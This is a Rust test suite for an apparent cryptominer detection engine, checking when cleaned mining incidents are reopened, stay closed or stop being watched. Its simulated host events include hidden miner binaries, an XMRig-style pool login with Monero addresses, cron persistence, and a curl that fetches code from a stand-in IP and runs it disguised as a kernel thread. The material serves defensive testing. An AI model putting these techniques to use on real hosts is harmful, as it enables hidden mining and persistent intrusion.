//! Closed incidents are watched: what returns opens them again, and what does not return ends the watch.

use std::{collections::BTreeMap, time::Duration};

use crate::{
    engine::{Engine, EngineSettings},
    incident::IncidentState,
    model::{
        Alert, AlertAction, AlertReason, BootTime, Effect, IncidentId, NotWatched, ProcessKey, Verdict,
        WatchedIncident,
    },
    testing::{Host, feed, pass_time, seconds},
};

const MONERO: &str =
    "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
const OTHER: &str =
    "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD";
const DAY: u64 = 86_400;

/// A host and the engine that sees its events.
struct Watch {
    host: Host,
    engine: Engine,
    init: ProcessKey,
    cron: ProcessKey,
    fed: usize,
    alerts: Vec<Alert>,
    /// The number of the latest alert of each incident.
    numbers: BTreeMap<IncidentId, u64>,
}

impl Watch {
    fn new() -> Self {
        let mut host = Host::new();
        let init = host.boot("/usr/lib/systemd/systemd", &["systemd"]);
        let cron = host.spawn(init, "/usr/sbin/cron", &["cron", "-f"]);
        let engine = Engine::new(EngineSettings { processors: 2, ..EngineSettings::default() });
        Self { host, engine, init, cron, fed: 0, alerts: Vec::new(), numbers: BTreeMap::new() }
    }

    /// Passes the new events to the engine, and returns what it told since the last call.
    fn told(&mut self) -> Vec<(IncidentId, AlertAction, AlertReason)> {
        for event in &self.host.events()[self.fed..] {
            feed(&mut self.engine, event, &mut self.alerts);
        }
        self.fed = self.host.events().len();
        pass_time(&mut self.engine, self.host.now().plus(seconds(3)), &mut self.alerts);
        self.take()
    }

    /// Takes the alerts. Their numbers rise by one, because outputs know an alert again by its number.
    fn take(&mut self) -> Vec<(IncidentId, AlertAction, AlertReason)> {
        for alert in &self.alerts {
            let number = self.numbers.entry(alert.incident).or_default();
            *number += 1;
            assert_eq!(alert.number, *number, "{}", alert.message);
        }
        self.alerts.drain(..).map(|alert| (alert.incident, alert.action, alert.reason)).collect()
    }

    fn wait(&mut self, span: u64) -> Vec<(IncidentId, AlertAction, AlertReason)> {
        self.host.wait(seconds(span));
        self.told()
    }

    /// A shell that nobody logged in to.
    fn shell(&mut self) -> ProcessKey {
        self.host.spawn(self.cron, "/usr/bin/dash", &["sh", "-c", "x"])
    }

    fn mine(&mut self, program: &str, pool: &str, account: &str) -> ProcessKey {
        let shell = self.shell();
        let miner = self.host.spawn(shell, program, &[program]);
        self.host.connect(miner, pool);
        let login = format!(
            r#"{{"id":1,"jsonrpc":"2.0","method":"login","params":{{"login":"{account}","pass":"x","agent":"XMRig/6.21"}}}}"#
        );
        self.host.send(miner, pool, login + "\n");
        self.host.wait(seconds(2));
        self.host.exit(miner);
        self.host.exit(shell);
        miner
    }

    fn clean(&mut self, id: IncidentId) -> Result<WatchedIncident, NotWatched> {
        let mut effects = Vec::new();
        let watched =
            self.engine.watch_clean(&id.to_string(), seconds(3 * DAY), self.host.now(), &mut effects);
        for effect in effects {
            if let Effect::Alert(alert) = effect {
                self.alerts.push(*alert);
            }
        }
        watched
    }

    /// A miner that stays by a cron job, and whose incident a person has cleaned.
    fn cleaned() -> (Self, IncidentId) {
        let mut day = Self::new();
        let shell = day.shell();
        day.host.create(shell, "/etc/cron.d/x", 0o644);
        let miner = day.host.spawn(shell, "/var/tmp/.x/helper", &["helper"]);
        day.host.connect(miner, "203.0.113.5:443");
        day.host.send(
            miner,
            "203.0.113.5:443",
            format!(
                r#"{{"id":1,"jsonrpc":"2.0","method":"login","params":{{"login":"{MONERO}","pass":"x","agent":"XMRig/6.21"}}}}"#
            ) + "\n",
        );
        day.host.wait(seconds(5));
        day.host.exit(miner);
        day.host.exit(shell);
        let (id, ..) = *day.told().first().expect("it is an incident");
        day.clean(id).expect("nothing runs");
        assert_eq!(day.told(), [(id, AlertAction::IncidentClosed, AlertReason::Ended)]);
        (day, id)
    }
}

/// How something came back.
type Return = fn(&mut Watch);

#[test]
fn what_returns_opens_a_closed_incident_again() {
    let cases: [(&str, Return); 6] = [
        ("its program", |day| {
            day.mine("/var/tmp/.x/helper", "198.51.100.1:443", OTHER);
        }),
        ("its program, before it says anything", |day| {
            let shell = day.shell();
            day.host.spawn(shell, "/var/tmp/.x/helper", &["helper"]);
        }),
        ("its peer", |day| {
            day.mine("/opt/other", "203.0.113.5:443", OTHER);
        }),
        ("its account", |day| {
            day.mine("/opt/other", "198.51.100.1:443", MONERO);
        }),
        ("its cron job", |day| {
            let shell = day.shell();
            day.host.create(shell, "/etc/cron.d/x", 0o644);
        }),
        ("its cron job, moved into place by a service", |day| {
            let service = day.host.spawn(day.init, "/usr/sbin/apache2", &["apache2"]);
            let shell = day.host.spawn(service, "/usr/bin/dash", &["sh", "-c", "x"]);
            day.host.rename(shell, "/tmp/y", "/etc/cron.d/x");
        }),
    ];
    for (what, returns) in cases {
        let (mut day, id) = Watch::cleaned();
        assert!(day.wait(DAY).is_empty(), "{what}");
        returns(&mut day);
        let told = day.told();
        assert_eq!(
            told.first(),
            Some(&(id, AlertAction::IncidentOpened, AlertReason::Returned)),
            "{what}: {told:?}"
        );
        assert!(told.iter().all(|(of, ..)| *of == id), "{what}: {told:?}");
        let (state, verdict) = &day.engine.incidents(Some(&id.to_string()))[0];
        assert_eq!(*verdict, Some(Verdict::Mining), "{what}");
        assert!(state.persistence.iter().any(|path| &**path == "/etc/cron.d/x"), "{what}");
        assert_eq!(day.engine.counters().incidents_watched, 0, "{what}");
    }
}

#[test]
fn who_cleans_up_or_does_something_else_opens_nothing_again() {
    let cases: [(&str, Return); 7] = [
        ("a management agent puts its own job there", |day| {
            let agent = day.host.spawn(day.init, "/usr/bin/salt-minion", &["salt-minion"]);
            let shell = day.host.spawn(agent, "/usr/bin/dash", &["sh", "-c", "x"]);
            day.host.create(shell, "/etc/cron.d/x", 0o644);
        }),
        ("a person who logged in edits the cron job", |day| {
            let sshd = day.host.spawn(day.init, "/usr/sbin/sshd", &["sshd"]);
            let login = day.host.spawn(sshd, "/usr/bin/bash", &["-bash"]);
            let sudo = day.host.spawn(login, "/usr/bin/sudo", &["sudo", "vi", "/etc/cron.d/x"]);
            let editor = day.host.spawn(sudo, "/usr/bin/vim", &["vi", "/etc/cron.d/x"]);
            day.host.write(editor, "/etc/cron.d/x");
        }),
        ("a person removes it", |day| {
            let shell = day.shell();
            day.host.delete(shell, "/etc/cron.d/x");
        }),
        ("a package brings it", |day| {
            let apt = day.host.spawn(day.init, "/usr/bin/apt-get", &["apt-get", "install", "x"]);
            let dpkg = day.host.spawn(apt, "/usr/bin/dpkg", &["dpkg", "-i", "x.deb"]);
            day.host.create(dpkg, "/etc/cron.d/x", 0o644);
        }),
        ("another cron job", |day| {
            let shell = day.shell();
            day.host.create(shell, "/etc/cron.d/y", 0o644);
        }),
        ("a tool that the miner's script used, too", |day| {
            let shell = day.shell();
            day.host.spawn(shell, "/usr/bin/curl", &["curl", "http://example/"]);
        }),
        ("another miner", |day| {
            day.mine("/opt/other", "198.51.100.1:443", OTHER);
        }),
    ];
    for (what, does) in cases {
        let (mut day, id) = Watch::cleaned();
        day.wait(DAY);
        does(&mut day);
        let told = day.told();
        assert!(told.iter().all(|(of, ..)| *of != id), "{what}: {told:?}");
        assert_eq!(day.engine.counters().incidents_watched, 1, "{what}");
    }
}

#[test]
fn an_incident_that_ends_by_itself_is_watched_and_the_watch_ends() {
    let mut day = Watch::new();
    day.mine("/var/tmp/.x/helper", "203.0.113.5:443", MONERO);
    let (id, ..) = day.told()[0];
    assert_eq!(day.wait(3_700), [(id, AlertAction::IncidentClosed, AlertReason::Ended)]);
    let [watched] = &day.engine.watched_incidents()[..] else { panic!("it is watched") };
    assert_eq!((watched.incident, watched.verdict), (id, Verdict::Mining));
    assert_eq!(watched.until.since(watched.since), seconds(3 * DAY));
    assert_eq!(watched.programs, ["/var/tmp/.x/helper".into()]);
    assert_eq!((watched.peers.len(), watched.accounts.len(), watched.places.len()), (1, 1, 0));
    assert_eq!(day.engine.incidents(None), [], "it is not open");
    assert_eq!(day.engine.incidents(Some(&id.to_string())).len(), 1, "but who asks for it gets an answer");
    assert_eq!(day.wait(2 * DAY), []);
    assert_eq!(day.wait(DAY), [(id, AlertAction::IncidentClosed, AlertReason::StayedClean)]);
    day.mine("/var/tmp/.x/helper", "203.0.113.5:443", MONERO);
    let (new, action, reason) = day.told()[0];
    assert_eq!((new == id, action, reason), (false, AlertAction::IncidentOpened, AlertReason::NewSuspect));
}

/// A program that is suspected, and no more, because of its names and places.
fn suspected(day: &mut Watch) {
    let shell = day.shell();
    let curl = day.host.spawn(shell, "/usr/bin/curl", &["curl", "-o", "/tmp/.x/job", "http://203.0.113.9/x"]);
    day.host.connect(curl, "203.0.113.9:80");
    day.host.create(curl, "/tmp/.x/job", 0o755);
    day.host.exit(curl);
    let program = day.host.spawn(shell, "/tmp/.x/job", &["[kworker/0:1]"]);
    day.host.connect(program, "203.0.113.9:443");
    day.host.create(program, "/etc/cron.d/z", 0o644);
    day.host.wait(seconds(2));
    day.host.exit(program);
    day.host.delete(shell, "/tmp/.x/job");
    day.host.exit(shell);
}

#[test]
fn who_was_only_suspected_has_to_show_something_unless_a_person_asked() {
    for is_asked in [false, true] {
        let mut day = Watch::new();
        suspected(&mut day);
        let (id, ..) = day.told()[0];
        assert_eq!(day.engine.incidents(None)[0].1, Some(Verdict::Suspected));
        if is_asked {
            day.clean(id).expect("nothing runs");
        } else {
            day.wait(DAY + 3_700);
        }
        day.told();
        let shell = day.shell();
        let harmless = day.host.spawn(shell, "/tmp/.x/job", &["job"]);
        day.host.exit(harmless);
        let told = day.told();
        assert_eq!(!told.is_empty(), is_asked, "{told:?}");
        if !is_asked {
            suspected(&mut day);
            assert_eq!(day.told()[0], (id, AlertAction::IncidentOpened, AlertReason::Returned));
        }
    }
}

#[test]
fn an_incident_may_return_more_than_once() {
    let (mut day, id) = Watch::cleaned();
    for _ in 0..3 {
        day.wait(DAY);
        day.mine("/var/tmp/.x/helper", "203.0.113.5:443", MONERO);
        assert_eq!(day.told()[0], (id, AlertAction::IncidentOpened, AlertReason::Returned));
        day.wait(60);
        day.clean(id).expect("nothing runs");
        assert_eq!(day.told(), [(id, AlertAction::IncidentClosed, AlertReason::Ended)]);
    }
}

#[test]
fn the_message_says_that_it_is_back() {
    let (mut day, _) = Watch::cleaned();
    day.wait(DAY);
    let shell = day.shell();
    day.host.create(shell, "/etc/cron.d/x", 0o644);
    for event in &day.host.events()[day.fed..] {
        feed(&mut day.engine, event, &mut day.alerts);
    }
    let alert = &day.alerts[0];
    assert!(
        alert.message.contains("started by cron, is back (once) and wrote /etc/cron.d/x"),
        "{}",
        alert.message
    );
    assert!(alert.message.ends_with(": an incident that was closed goes on"), "{}", alert.message);
}

#[test]
fn only_what_is_over_can_be_watched() {
    let mut day = Watch::new();
    let shell = day.shell();
    let words = ["helper", "-o", "pool.example:443", "-u", MONERO, "--tls"];
    let miner = day.host.spawn(shell, "/usr/local/bin/helper", &words);
    let (id, ..) = day.told()[0];
    let refused = day.clean(id).expect_err("it runs").to_string();
    assert!(refused.contains(&format!("/usr/local/bin/helper (pid {}) still runs", miner.pid)), "{refused}");
    let unknown = IncidentId { opened: BootTime(1), ..id };
    assert_eq!(day.clean(unknown), Err(NotWatched::Unknown(unknown.to_string())));

    // Nothing that could return is known of an incident that was only noted.
    let mut quiet = Watch::new();
    let shell = quiet.shell();
    quiet.host.create(shell, "/etc/cron.d/x", 0o644);
    quiet.told();
    let (state, verdict) = &quiet.engine.incidents(None)[0];
    assert!(*verdict < Some(Verdict::Suspected));
    assert_eq!(quiet.clean(state.incident), Err(NotWatched::NothingNamed(state.incident)));
}

#[test]
fn a_watch_can_be_ended() {
    let (mut day, id) = Watch::cleaned();
    assert!(day.engine.end_watch(&id.to_string()));
    assert!(!day.engine.end_watch(&id.to_string()));
    day.mine("/var/tmp/.x/helper", "203.0.113.5:443", MONERO);
    assert!(day.told().iter().all(|(of, ..)| *of != id));
}

/// The state that an engine stores.
fn stored(engine: &Engine) -> IncidentState {
    let mut json = Vec::new();
    assert_eq!(engine.encode_incidents(64 << 20, &mut json).left_out, 0);
    serde_json::from_slice(&json).expect("what was encoded can be decoded")
}

#[test]
fn the_watch_goes_on_after_a_restart_of_the_daemon() {
    let (mut day, id) = Watch::cleaned();
    day.wait(DAY);
    let until = day.engine.watched_incidents()[0].until;
    let mut after = Engine::new(EngineSettings::default());
    let mut effects = Vec::new();
    after.restore_incidents(stored(&day.engine), |_| false, day.host.now(), &mut effects);
    after.reconcile_incidents(day.host.now(), &mut effects);
    assert!(effects.is_empty(), "{effects:?}");
    assert_eq!(after.watched_incidents()[0].until, until);
    day.engine = after;
    let shell = day.shell();
    day.host.create(shell, "/etc/cron.d/x", 0o644);
    assert_eq!(day.told()[0], (id, AlertAction::IncidentOpened, AlertReason::Returned));
}

/// What a new boot sees: the same host with other processes, which start at other times.
fn boot_again(before: &Watch, after: Duration) -> (Watch, Vec<(AlertAction, AlertReason)>) {
    let mut next = Watch { numbers: before.numbers.clone(), ..Watch::new() };
    let mut effects = Vec::new();
    let now = before.host.now().plus(after);
    next.engine.end_incidents(stored(&before.engine), now, BootTime(1), &mut effects);
    next.alerts.extend(effects.into_iter().filter_map(|effect| match effect {
        Effect::Alert(alert) => Some(*alert),
        Effect::Observed(_) | Effect::Request(_) | Effect::Confirmed(_) => None,
    }));
    let told = next.take().into_iter().map(|(_, action, reason)| (action, reason)).collect();
    (next, told)
}

#[test]
fn the_watch_goes_on_after_a_boot() {
    let (day, id) = Watch::cleaned();
    let cases: [(&str, Return); 4] = [
        ("its program", |day| {
            let shell = day.shell();
            day.host.spawn(shell, "/var/tmp/.x/helper", &["helper"]);
        }),
        ("its cron job", |day| {
            let shell = day.shell();
            day.host.create(shell, "/etc/cron.d/x", 0o644);
        }),
        ("its peer", |day| {
            day.mine("/opt/other", "203.0.113.5:443", OTHER);
        }),
        ("its account", |day| {
            day.mine("/opt/other", "198.51.100.1:443", MONERO);
        }),
    ];
    for (what, returns) in cases {
        let (mut next, told) = boot_again(&day, seconds(DAY));
        assert_eq!(told, [], "{what}: it was closed before");
        let left = next.engine.watched_incidents()[0].until.since(BootTime(1));
        assert!(left <= seconds(2 * DAY) && left > seconds(2 * DAY - 60), "{what}: {left:?}");
        returns(&mut next);
        assert_eq!(next.told()[0], (id, AlertAction::IncidentOpened, AlertReason::Returned), "{what}");
    }
    let (next, told) = boot_again(&day, seconds(4 * DAY));
    assert_eq!(told, [(AlertAction::IncidentClosed, AlertReason::StayedClean)]);
    assert_eq!(next.engine.watched_incidents(), []);
}

#[test]
fn a_miner_that_a_boot_ended_and_cron_starts_again_is_the_same_incident() {
    let mut day = Watch::new();
    let shell = day.shell();
    let words = ["helper", "-o", "pool.example:443", "-u", MONERO, "--tls"];
    day.host.spawn(shell, "/usr/local/bin/helper", &words);
    let (id, ..) = day.told()[0];
    let (mut next, told) = boot_again(&day, seconds(60));
    assert_eq!(told, [(AlertAction::IncidentClosed, AlertReason::Ended)]);
    let shell = next.shell();
    next.host.spawn(shell, "/usr/local/bin/helper", &words);
    let told = next.told();
    assert_eq!(told[0], (id, AlertAction::IncidentOpened, AlertReason::Returned));
    let (state, verdict) = &next.engine.incidents(None)[0];
    assert_eq!((*verdict, state.suspects.len()), (Some(Verdict::Mining), 1));
    assert!(state.score >= 60, "{}", state.score);
    assert!(
        state.signals.iter().any(|signal| signal.process.start_ticks > 0 && signal.at > BootTime(1)),
        "one is new"
    );
}

#[test]
fn nothing_is_watched_if_the_configuration_says_so() {
    let mut day = Watch::new();
    day.engine.set_watch(Duration::ZERO);
    day.mine("/var/tmp/.x/helper", "203.0.113.5:443", MONERO);
    day.told();
    day.wait(3_700);
    assert_eq!(day.engine.watched_incidents(), []);
}

#[test]
fn the_number_of_watched_incidents_is_bounded() {
    let mut day = Watch::new();
    for number in 0..300_u32 {
        let program = format!("/opt/{number}");
        let pool = format!("203.0.{}.{}:443", number / 250, number % 250 + 1);
        let account =
            format!("4{}", format!("A{number:05}x").repeat(16).chars().take(94).collect::<String>());
        day.mine(&program, &pool, &account);
        day.host.wait(seconds(600));
        if number % 20 == 19 {
            day.wait(4_000);
        }
    }
    day.wait(4_000);
    let watched = day.engine.watched_incidents();
    assert!(watched.len() <= 256, "{}", watched.len());
    assert!(watched.len() > 1);
}
